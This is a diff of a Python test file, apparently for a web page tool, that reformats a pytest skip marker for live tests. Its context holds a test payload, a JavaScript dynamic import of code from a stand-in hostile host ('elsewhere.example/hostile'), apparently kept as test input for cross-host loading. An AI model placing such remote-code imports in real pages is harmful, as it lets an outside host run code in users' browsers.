@@ -18,9 +18,7 @@ import pytest
 from tests.support.site.visit import Visit
 from tools import live, serve
 
-pytestmark = pytest.mark.skipif(
-    not live.is_requested(), reason="needs what a page's Python is made of: make test LIVE=1"
-)
+pytestmark = pytest.mark.skipif(not live.is_requested(), reason="needs the files of Python in a page: make test LIVE=1")
 
 U = "https://elsewhere.example/hostile"
 TEXT = f"import('{U}')"  # JavaScript that requests another host
